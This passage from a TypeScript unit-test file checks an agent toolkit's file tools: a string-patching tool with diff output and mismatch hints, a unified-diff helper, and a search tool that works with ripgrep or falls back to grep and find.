        "+export function add(a: bigint, b: bigint): bigint {",
        "     return a + b;",
        " }",
        " ",
        "-export function sub(a: number, b: number): number {",
        "+export function sub(a: bigint, b: bigint): bigint {",
        "     return a - b;",
        " }",
        " ",
      ].join("\n"),
    );
    expect(readFileSync(path, "utf8")).toBe(source.replaceAll("number", "bigint"));
  });

  it("explains a miss: the closest place, its lines, and an indentation difference", async () => {
    const path = fresh("miss.ts");
    const r = await call(patch, { path, old_string: "export function sub(a: number, b: number): number {\n  return a - b;\n}", new_string: "x" });
    expect(r.error).toBe(
      [
        `old_string was not found in ${path}.`,
        "Closest match: lines 7-9 (97% similar). Differences, by line of the file:",
        "  line 8: indentation differs: the file has 4 spaces, old_string has 2 spaces",
        "Other similar places: lines 3-5 (91% similar).",
        "Read lines 7-9 with read_file (offset=7, limit=3) and copy the text exactly, without the line-number prefixes.",
      ].join("\n"),
    );
    expect(readFileSync(path, "utf8")).toBe(source);
  });

  it("names other near misses, line-number prefixes, typographic quotes and changed text", async () => {
    const path = fresh("hints.ts");
    const prefixed = await call(patch, { path, old_string: "     8\t    return a - b;\n     9\t}", new_string: "x" });
    expect(prefixed.error).toMatch(/old_string starts its lines with the line numbers read_file shows .* Without them the text is found/);
    const quotes = await call(patch, { path, old_string: "const label = \u201ctotal\u201d;", new_string: "x" });
    expect(quotes.error).toMatch(/typographic quotes, dashes or special spaces .* with ASCII characters it is found/);
    expect(quotes.error).toMatch(/line 11: typographic characters differ/);
    const changed = await call(patch, { path, old_string: "export function add(a: number, b: number): string {\n    return a + b;\n}", new_string: "x" });
    expect(changed.error).toMatch(/Closest match: lines 3-5 \(\d+% similar\)/);
    expect(changed.error).toMatch(/line 3: file "export function add\(a: number, b: number\): number \{", old_string "export function add\(a: number, b: number\): string \{"/);
    expect(changed.error).toMatch(/Other similar places: lines 7-9 \(\d+% similar\)/);
    const unrelated = await call(patch, { path, old_string: "SELECT * FROM users WHERE id = 1", new_string: "x" });
    expect(unrelated.error).toMatch(/Nothing in the file is similar to it/);
  });

  it("keeps CRLF line endings when old_string and new_string use \\n", async () => {
    const path = fresh("crlf.txt", "first\r\nsecond\r\nthird\r\n");
    const r = await call(patch, { path, old_string: "second\nthird", new_string: "2nd\n3rd\nfourth" });
    expect(r.error).toBeNull();
    expect(readFileSync(path, "utf8")).toBe("first\r\n2nd\r\n3rd\r\nfourth\r\n");
    expect(r.diff).toBe([`--- ${path}`, `+++ ${path}`, "@@ -1,3 +1,4 @@", " first", "-second", "-third", "+2nd", "+3rd", "+fourth"].join("\n"));
  });

  it("handles unicode, deletion and a file without a final newline", async () => {
    const path = fresh("uni.txt", "α\nβ ✓\nγ");
    const r = await call(patch, { path, old_string: "β ✓\n", new_string: "" });
    expect(readFileSync(path, "utf8")).toBe("α\nγ");
    expect(r.diff).toBe([`--- ${path}`, `+++ ${path}`, "@@ -1,3 +1,2 @@", " α", "-β ✓", " γ", "\\ No newline at end of file"].join("\n"));
    const end = await call(patch, { path, old_string: "γ", new_string: "γ\n" });
    expect(readFileSync(path, "utf8")).toBe("α\nγ\n");
    expect(end.diff).toBe([`--- ${path}`, `+++ ${path}`, "@@ -1,2 +1,2 @@", " α", "-γ", "\\ No newline at end of file", "+γ"].join("\n"));
  });

  it("refuses what it cannot edit", async () => {
    const path = fresh("edge.txt", "abc\n");
    expect((await call(patch, { path, old_string: "", new_string: "x" })).error).toMatch(/old_string must not be empty/);
    expect((await call(patch, { path, old_string: "abc", new_string: "abc" })).error).toMatch(/nothing to change/);
    expect((await call(patch, { path: join(dir, "absent.txt"), old_string: "a", new_string: "b" })).error).toMatch(/^Not found: /);
    writeFileSync(join(dir, "bin.dat"), Buffer.from([1, 2, 0, 3]));
    expect((await call(patch, { path: join(dir, "bin.dat"), old_string: "a", new_string: "b" })).error).toMatch(/binary file/);
    expect((await call(patch, { path, old_string: "abc", new_string: "x", replace_all: "yes" })).error).toBe('replace_all must be true or false, got "yes".');
    expect(readFileSync(path, "utf8")).toBe("abc\n");
  });

  it("patches a file larger than one write chunk", async () => {
    const lines = Array.from({ length: 20_000 }, (_, i) => `const v${i} = ${i};`);
    const path = fresh("large.ts", lines.join("\n") + "\n");
    const r = await call(patch, { path, old_string: "const v12345 = 12345;", new_string: "const v12345 = -1;" });
    expect(r).toMatchObject({ replacements: 1, lines: [12346], error: null });
    lines[12345] = "const v12345 = -1;";
    expect(readFileSync(path, "utf8")).toBe(lines.join("\n") + "\n");
  });
});

describe("unified diff", () => {
  it("merges nearby changes into one hunk and keeps distant ones apart", () => {
    const text = Array.from({ length: 30 }, (_, i) => `l${i + 1}`).join("\n") + "\n";
    const at = (s: string) => text.indexOf(s);
    const diff = unifiedDiff(
      text,
      [
        { start: at("l2\n"), end: at("l2\n") + 2, replacement: "L2" },
        { start: at("l5\n"), end: at("l5\n") + 2, replacement: "L5" },
        { start: at("l25\n"), end: at("l25\n") + 3, replacement: "L25\nextra" },
      ],
      "f",
    );
    expect(diff).toBe(
      [
        "--- f",
        "+++ f",
        "@@ -1,8 +1,8 @@",
        " l1",
        "-l2",
        "+L2",
        " l3",
        " l4",
        "-l5",
        "+L5",
        " l6",
        " l7",
        " l8",
        "@@ -22,7 +22,8 @@",
        " l22",
        " l23",
        " l24",
        "-l25",
        "+L25",
        "+extra",
        " l26",
        " l27",
        " l28",
      ].join("\n"),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// search_files
// ---------------------------------------------------------------------------------------------

describe("search arguments", () => {
  it("expands braces and rewrites Perl classes for grep -E", () => {
    expect(expandBraces("*.{ts,tsx}")).toEqual(["*.ts", "*.tsx"]);
    expect(expandBraces("{a,b}.{c,d}")).toEqual(["a.c", "a.d", "b.c", "b.d"]);
    expect(expandBraces("plain*")).toEqual(["plain*"]);
    expect(regexForGrep("\\d{3}-\\w+\\s\\S\\D\\W")).toBe("[0-9]{3}-[[:alnum:]_]+[[:space:]][^[:space:]][^0-9][^[:alnum:]_]");
    expect(regexForGrep("[\\d\\s.]+")).toBe("[0-9[:space:].]+");
    expect(regexForGrep("\\\\d \\.")).toBe("\\\\d \\.");
    expect(regexForGrep("[[:alpha:]]\\d")).toBe("[[:alpha:]][0-9]");
  });
});

describe.each([
  ["rg", "rg"],
  ["fallback", "grep"],
] as const)("search_files (%s engine)", (engine, engineName) => {
  const skip = engine === "rg" && !HAVE_RG;
  let dir: string;
  let search: ReturnType<typeof createSearchFilesHandler>;
  const filesEngine = engine === "rg" ? "rg" : "find";

  beforeAll(() => {
    if (skip) return;
    dir = scratch(`search-${engine}`);
    const files: Record<string, string | Buffer> = {
      "src/app.ts": "export function alpha() {}\nconst beta = 1;\n// TODO fix this\nfunction gamma() {}\n",
      "src/util/helpers.ts": "export function helper() { return 42; }\n// todo lowercase\n",
      "src/view.tsx": "function render() {}\n",
      "docs/notes.md": "TODO: write docs\nphone 555-1234\n",
      ".github/workflows/ci.yml": "# TODO ci\n",
      "node_modules/pkg/index.js": "// TODO in node_modules\n",
      ".git/HEAD": "TODO in git\n",
      "bin/blob.bin": Buffer.from("TODO\0binary\n"),
      "long.txt": `${"x".repeat(3000)}TODO\n`,
      "odd name: 'q' $x.txt": "TODO odd\n",
    };
    for (const [name, content] of Object.entries(files)) {
      mkdirSync(join(dir, name, ".."), { recursive: true });
      writeFileSync(join(dir, name), content);
    }
    search = createSearchFilesHandler({ environments: manager, engine });
  });

  const run = (args: Record<string, unknown>) => call(search, { path: dir, ...args });
  const paths = (r: Json) => (r.files as Array<{ path: string }>).map((f) => f.path);

  it.skipIf(skip)("finds matches grouped by file, sorted by path, skipping .git, node_modules and binary files", async () => {
    const r = await run({ pattern: "TODO" });
    expect(r.error).toBeNull();
    expect(r.engine).toBe(engineName);
    expect(paths(r)).toEqual([".github/workflows/ci.yml", "docs/notes.md", "long.txt", "odd name: 'q' $x.txt", "src/app.ts"].map((p) => join(dir, p)));
    expect(r.files[4]).toEqual({ path: join(dir, "src/app.ts"), lines: [{ line: 3, text: "// TODO fix this" }] });
    expect(r).toMatchObject({ match_count: 5, truncated: false, path: dir });
  });

  it.skipIf(skip)("shows paths relative to the working directory when inside it", async () => {
    const r = await call(search, { path: `search-${engine}/src`, pattern: "beta" });
    expect(r).toMatchObject({ path: `search-${engine}/src`, files: [{ path: `search-${engine}/src/app.ts`, lines: [{ line: 2, text: "const beta = 1;" }] }] });
  });

  it.skipIf(skip)("ignores case, filters by name glob with braces, and adds context lines", async () => {
    const ci = await run({ pattern: "todo", ignore_case: true, glob: "*.ts" });
    expect(paths(ci)).toEqual([join(dir, "src/app.ts"), join(dir, "src/util/helpers.ts")]);
    const globbed = await run({ pattern: "function", glob: "*.{ts,tsx}" });
    expect(paths(globbed)).toEqual([join(dir, "src/app.ts"), join(dir, "src/util/helpers.ts"), join(dir, "src/view.tsx")]);
    expect(globbed.match_count).toBe(4);
    const context = await run({ pattern: "beta", context: 1 });
    expect(context.files).toEqual([
      {
        path: join(dir, "src/app.ts"),
        lines: [
          { line: 1, text: "export function alpha() {}", context: true },
          { line: 2, text: "const beta = 1;" },
          { line: 3, text: "// TODO fix this", context: true },
        ],
      },
    ]);
  });

  it.skipIf(skip)("stops at max_results and says so", async () => {
    const r = await run({ pattern: "TODO", max_results: 2 });
    expect(r).toMatchObject({ match_count: 2, truncated: true });
    expect(paths(r)).toEqual([join(dir, ".github/workflows/ci.yml"), join(dir, "docs/notes.md")]);
    expect(r.note).toMatch(/Only the first 2 matches/);
  });

  it.skipIf(skip)("understands \\d and \\w in either engine, and cuts long lines", async () => {
    const phone = await run({ pattern: "\\d{3}-\\d{4}" });
    expect(phone.files).toEqual([{ path: join(dir, "docs/notes.md"), lines: [{ line: 2, text: "phone 555-1234" }] }]);
    const long = await run({ pattern: "x+TODO" });
    const text = long.files[0].lines[0].text as string;
    expect(text.startsWith("x".repeat(500))).toBe(true);
    expect(text.endsWith("[... omitted end of long line]")).toBe(true);
    expect(text.length).toBeLessThan(560);
  });

  it.skipIf(skip)("searches a single file", async () => {
    const r = await call(search, { path: join(dir, "src/app.ts"), pattern: "gamma" });
    expect(r.files).toEqual([{ path: join(dir, "src/app.ts"), lines: [{ line: 4, text: "function gamma() {}" }] }]);
  });

  it.skipIf(skip)("finds files by name glob", async () => {
    const ts = await run({ target: "files", pattern: "*.ts" });
    expect(ts).toEqual({ engine: filesEngine, path: dir, files: [join(dir, "src/app.ts"), join(dir, "src/util/helpers.ts")], count: 2, truncated: false, error: null });
    const both = await run({ target: "files", pattern: "*.{ts,tsx}", max_results: 2 });
    expect(both).toMatchObject({ count: 2, truncated: true });
    const odd = await run({ target: "files", pattern: "odd*" });
    expect(odd.files).toEqual([join(dir, "odd name: 'q' $x.txt")]);
    const none = await run({ target: "files", pattern: "*.rs" });
    expect(none).toMatchObject({ files: [], count: 0, note: "No file names match." });
  });

  it.skipIf(skip)("reports bad patterns, paths and arguments clearly", async () => {
    expect((await run({ pattern: "(unclosed" })).error).toMatch(engine === "rg" ? /^ripgrep failed: regex parse error/ : /^pattern is not a valid regular expression for grep -E/);
    expect((await run({ pattern: "(?<=x)y" })).error).toMatch(/Lookahead and lookbehind/);
    expect((await run({ pattern: "x", glob: "src/*.ts" })).error).toMatch(/glob matches file names only and must not contain "\/"/);
    expect((await run({ pattern: "x", target: "files", glob: "*.ts" })).error).toMatch(/glob is for content searches/);
    expect((await run({ pattern: "x", target: "everything" })).error).toBe('target must be one of "content", "files", got "everything".');
    expect((await run({ pattern: "" })).error).toBe("pattern must not be empty.");
    expect((await run({ pattern: "", target: "files" })).error).toBe('pattern must not be empty; use "*" to list every file.');
    const missing = await call(search, { path: join(dir, "scr"), pattern: "x" });
    expect(missing.error).toBe(`Not found: ${join(dir, "scr")}. Similar names in ${dir}: src.`);
    const empty = await run({ pattern: "no such text anywhere" });
    expect(empty).toMatchObject({ files: [], match_count: 0, truncated: false, note: "No matches." });
  });
});

describe("search_files engines", () => {
  it.skipIf(!HAVE_RG)("uses ripgrep when the environment has it, and then honours .ignore files", async () => {
    const dir = scratch("search-ignore");
    writeFileSync(join(dir, ".ignore"), "generated/\n");
    mkdirSync(join(dir, "generated"));
    writeFileSync(join(dir, "generated", "out.js"), "needle\n");
    writeFileSync(join(dir, "kept.js"), "needle\n");
    const auto = await call(createSearchFilesHandler({ environments: manager }), { path: dir, pattern: "needle" });
    expect(auto.engine).toBe("rg");
    expect(auto.files.map((f: Json) => f.path)).toEqual([join(dir, "kept.js")]);
    const fallback = await call(createSearchFilesHandler({ environments: manager, engine: "fallback" }), { path: dir, pattern: "needle" });
    expect(fallback.engine).toBe("grep");
    expect(fallback.files.map((f: Json) => f.path)).toEqual([join(dir, "generated", "out.js"), join(dir, "kept.js")]);
    // The same shape either way.
    expect(Object.keys(auto).sort()).toEqual(Object.keys(fallback).sort());
  });

  it("falls back to find and grep when rg is not on the environment's PATH", async () => {
    const bin = scratch("search-path-bin");
    for (const tool of ["bash", "find", "sort", "xargs", "grep", "head", "cut", "mktemp", "rm", "stat", "wc", "tr", "od", "base64", "readlink", "cat"]) {
      const found = spawnSync("bash", ["-c", `command -v ${tool}`], { encoding: "utf8" }).stdout.trim();
      if (found) symlinkSync(found, join(bin, tool));
    }
    const noRg = new EnvironmentManager({
      factories: [createLocalFactory({ initialCwd: root, env: () => ({ ...process.env, PATH: bin, HOME: home }) })],
      defaultBackend: "local",
      closeOnExit: false,
      idleTimeoutMs: 0,
    });
    try {
      const dir = scratch("search-no-rg");
      writeFileSync(join(dir, "a.txt"), "needle here\n");
      const auto = await call(createSearchFilesHandler({ environments: noRg }), { path: dir, pattern: "needle" });
      expect(auto).toMatchObject({ engine: "grep", files: [{ path: join(dir, "a.txt"), lines: [{ line: 1, text: "needle here" }] }] });
      const forced = await call(createSearchFilesHandler({ environments: noRg, engine: "rg" }), { path: dir, pattern: "needle" });
      expect(forced.error).toBe("The environment has no `rg` command, which the file tools need there. Use the terminal tool instead, or install it.");
    } finally {
      await noRg.closeAll();
    }
  });
});
